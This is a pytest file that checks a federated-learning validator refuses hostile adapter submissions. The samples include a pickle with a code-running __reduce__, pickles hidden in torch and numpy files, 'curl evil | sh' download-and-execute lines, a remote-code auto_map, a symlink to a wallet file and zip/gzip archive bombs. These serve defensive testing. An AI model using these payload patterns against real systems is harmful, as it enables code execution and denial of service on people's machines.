"""Every hostile submission that a validator must expect, all the way from the store: refused, and no harm done.

Access to the network, files, programs and other processes from within the sandbox is in `test_sandbox.py`, folders and
their links in `test_adapters.py`. A tokenizer swap has no place here: a submission cannot carry a tokenizer.
"""

import gzip
import io
import json
import pickle
import sys
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pytest
from safetensors.numpy import save

from fl_alliance.arena.adapters import Adapter, AdapterSpec, down_name, load_adapter, pack_adapter
from fl_alliance.arena.copies import AdapterUpdate, Committed, find_copies
from fl_alliance.arena.errors import (
    ContentMissing,
    ContentTooLarge,
    NotFinite,
    NotSafetensors,
    SubmissionRefused,
    SubmissionTooLarge,
    TensorsForeign,
    TermsRefused,
)
from fl_alliance.arena.sandbox import Limits, Status, run
from fl_alliance.arena.store import Store, name_content, open_store

HERE = Path(__file__).parent
SPEC = AdapterSpec({"model.layers.0.q_proj": (32, 32), "model.layers.0.v_proj": (16, 32)}, max_rank=8)
MOST_BYTES = 2_000_000
"""What this task's validators fetch at most."""


@dataclass
class Attacker:
    """Someone whose code leaves a mark where it runs."""

    mark: Path

    def code(self) -> "Exploit":
        return Exploit(str(self.mark))


class Exploit:
    """Pickles to a call that makes the mark."""

    def __init__(self, mark: str) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str, str]]:
        return open, (self.mark, "w")


@pytest.fixture
def attacker(tmp_path: Path) -> Attacker:
    return Attacker(tmp_path / "owned")


@pytest.fixture
def store(tmp_path: Path) -> Store:
    """The store that validators fetch submissions from."""
    return open_store(tmp_path / "store")


def trained(seed: int = 0, rank: int = 4) -> Adapter:
    rng = np.random.default_rng(seed)
    shapes = SPEC.shapes(rank).items()
    return Adapter(rank, 8.0, {name: rng.normal(size=shape).astype(np.float32) for name, shape in shapes})


def validate(store: Store, submission: bytes) -> Adapter:
    """What a validator does before it scores: fetch by digest, load strictly."""
    return load_adapter(store.get(store.put(submission).digest, MOST_BYTES), SPEC)


def refused_without_harm(store: Store, submission: bytes) -> SubmissionRefused | ContentTooLarge:
    """Validate a submission that must be refused, quickly and in little memory; return the refusal."""
    digest = store.put(submission).digest
    tracemalloc.start()
    began = time.monotonic()
    try:
        with pytest.raises((SubmissionRefused, ContentTooLarge)) as refused:
            load_adapter(store.get(digest, MOST_BYTES), SPEC)
        assert time.monotonic() - began < 5
        assert tracemalloc.get_traced_memory()[1] < 20_000_000
    finally:
        tracemalloc.stop()
    return refused.value


def changed(header_change: Callable[[dict[str, dict[str, object]]], object]) -> bytes:
    """An honest submission with another header over the same bytes."""
    blob = pack_adapter(trained())
    end = 8 + int.from_bytes(blob[:8], "little")
    header = json.loads(blob[8:end])
    header_change(header)
    text = json.dumps(header).encode()
    return len(text).to_bytes(8, "little") + text + blob[end:]


def test_the_honest_submission_that_all_others_are_made_from_is_taken(store: Store) -> None:
    assert validate(store, pack_adapter(trained())).rank == 4
    assert validate(store, changed(lambda header: None)).rank == 4


@pytest.mark.parametrize("protocol", [2, 4, 5])
def test_a_pickle_is_refused_and_its_code_does_not_run(store: Store, attacker: Attacker, protocol: int) -> None:
    exploit = pickle.dumps(attacker.code(), protocol)
    assert isinstance(refused_without_harm(store, exploit), NotSafetensors)
    assert not attacker.mark.exists()
    pickle.loads(exploit)  # noqa: S301 - the attack is real: who unpickled it would have the mark
    assert attacker.mark.exists()


def test_a_pickle_in_a_torch_archive_is_refused(store: Store, attacker: Attacker) -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("archive/data.pkl", pickle.dumps(attacker.code()))
    refusal = refused_without_harm(store, archive.getvalue())
    assert "a zip archive, perhaps one of torch.save" in str(refusal)
    assert not attacker.mark.exists()


def test_a_numpy_file_of_pickles_is_refused(store: Store, attacker: Attacker) -> None:
    file = io.BytesIO()
    np.save(file, np.array([attacker.code()], dtype=object))
    assert "a numpy file" in str(refused_without_harm(store, file.getvalue()))
    assert not attacker.mark.exists()


@pytest.mark.parametrize(
    ("code", "words"),
    [
        (b"import os\nos.system('curl evil')\n", "no JSON object"),
        (b"#!/bin/sh\ncurl evil | sh\n", "a script"),
        (b"\x7fELF\x02\x01\x01" + bytes(100), "a program"),
    ],
)
def test_code_in_place_of_a_model_is_refused(store: Store, code: bytes, words: str) -> None:
    assert words in str(refused_without_harm(store, code))


def test_a_model_that_asks_for_remote_code_is_refused(store: Store) -> None:
    metadata = {"adapter": '{"rank": 4, "alpha": 8}', "auto_map": '{"AutoModel": "evil/repo--modeling.Evil"}'}
    assert isinstance(refused_without_harm(store, save(trained().arrays, metadata=metadata)), TermsRefused)


def test_tensors_with_foreign_names_are_refused(store: Store) -> None:
    arrays = {f"model.unrelated.{at}": np.zeros((4, 4), np.float32) for at in range(10)}
    submission = save(arrays, metadata={"adapter": '{"rank": 4, "alpha": 8}'})
    assert isinstance(refused_without_harm(store, submission), TensorsForeign)


def test_a_rank_of_100000_is_refused_by_its_number(store: Store) -> None:
    submission = save(trained().arrays, metadata={"adapter": '{"rank": 100000, "alpha": 8}'})
    refusal = refused_without_harm(store, submission)
    assert isinstance(refusal, TermsRefused)
    assert "rank '100000'" in str(refusal)


def test_tensors_of_rank_100000_are_refused_by_their_size(store: Store) -> None:
    arrays = {name: np.zeros(shape, np.float32) for name, shape in SPEC.shapes(100_000).items()}
    submission = save(arrays, metadata={"adapter": '{"rank": 100000, "alpha": 8}'})
    assert isinstance(refused_without_harm(store, submission), ContentTooLarge)


def test_a_header_that_claims_tensors_of_rank_100000_is_refused_without_making_room(store: Store) -> None:
    name = down_name("model.layers.0.q_proj")
    refusal = refused_without_harm(store, changed(lambda header: header[name].update(shape=[100_000, 32])))
    assert "its shape and type make 12800000" in str(refusal)


@pytest.mark.parametrize("value", [np.nan, np.inf, -np.inf])
def test_nan_and_infinity_are_refused(store: Store, value: float) -> None:
    poisoned = trained()
    poisoned.arrays[down_name("model.layers.0.v_proj")][0, 0] = value
    assert isinstance(refused_without_harm(store, pack_adapter(poisoned)), NotFinite)


def test_a_truncated_file_is_refused_wherever_it_ends(store: Store) -> None:
    blob = pack_adapter(trained())
    header_end = 8 + int.from_bytes(blob[:8], "little")
    for length in (0, 1, 7, 8, 9, header_end - 1, header_end, header_end + 1, len(blob) // 2, len(blob) - 1):
        assert isinstance(refused_without_harm(store, blob[:length]), NotSafetensors)


def test_an_oversized_file_is_never_read_whole(store: Store) -> None:
    assert isinstance(refused_without_harm(store, pack_adapter(trained()) + bytes(100_000_000)), ContentTooLarge)
    assert isinstance(refused_without_harm(store, pack_adapter(trained()) + b"x"), NotSafetensors)


def test_a_header_of_gigabytes_is_refused_by_its_number(store: Store) -> None:
    blob = (2**40).to_bytes(8, "little") + b"{" + bytes(1000)
    assert isinstance(refused_without_harm(store, blob), SubmissionTooLarge)


def test_a_symbolic_link_to_the_validators_secrets_is_not_followed(store: Store, tmp_path: Path) -> None:
    secret = tmp_path / "wallet"
    secret.write_bytes(pack_adapter(trained()))
    digest = name_content(secret.read_bytes()).digest
    place = tmp_path / "store" / digest.hex()[:2]
    place.mkdir(parents=True)
    (place / digest.hex()).symlink_to(secret)
    with pytest.raises(ContentMissing):
        store.get(digest, MOST_BYTES)


@pytest.mark.parametrize("pack", ["zip", "gzip", "zip of zips"])
def test_an_archive_bomb_is_refused_without_unpacking_it(store: Store, pack: str) -> None:
    zeros = bytes(100_000_000)  # 100 kB packed, and a thousand times that unpacked
    if pack == "gzip":
        bomb = gzip.compress(zeros)
    else:
        bomb = zipped(zeros) if pack == "zip" else zipped(*[zipped(zeros)] * 16)
    assert len(bomb) < MOST_BYTES
    assert "archive" in str(refused_without_harm(store, bomb))


def zipped(*contents: bytes) -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as file:
        for at, content in enumerate(contents):
            file.writestr(f"{at}.safetensors", content)
    return archive.getvalue()


@pytest.mark.skipif(sys.platform != "linux", reason="only Linux can isolate a scorer")
@pytest.mark.parametrize(
    ("scorer", "limits", "status"),
    [
        ("loops_for_ever", Limits(cpu_s=1, wall_s=60), Status.OUT_OF_CPU),
        ("eats_memory", Limits(memory_bytes=512 * 2**20, cpu_s=60), Status.OUT_OF_MEMORY),
    ],
)
def test_a_model_that_loops_or_eats_memory_while_it_is_scored_is_stopped(
    store: Store, monkeypatch: pytest.MonkeyPatch, scorer: str, limits: Limits, status: Status
) -> None:
    monkeypatch.syspath_prepend(str(HERE))
    submission = store.get(store.put(pack_adapter(trained())).digest, MOST_BYTES)
    outcome = run(f"hostile_scorers:{scorer}", [submission], limits=limits)
    assert outcome.status is status
    assert outcome.is_the_submissions_fault


def test_a_copy_with_two_percent_noise_is_known_after_all_checks(store: Store) -> None:
    honest, rng = trained(), np.random.default_rng(7)
    copy = Adapter(
        4,
        8.0,
        {
            name: (array + 0.02 * array.std() * rng.normal(size=array.shape)).astype(np.float32)
            for name, array in honest.arrays.items()
        },
    )
    loaded = [validate(store, pack_adapter(adapter)) for adapter in (honest, copy, trained(seed=1))]
    nodes = ("honest node", "copier", "another honest node")
    committed = [
        Committed(node, order, AdapterUpdate(adapter, tuple(SPEC.layers)))
        for order, (node, adapter) in enumerate(zip(nodes, loaded, strict=True))
    ]
    assert {order: copy.original for order, copy in find_copies(committed).items()} == {1: 0}
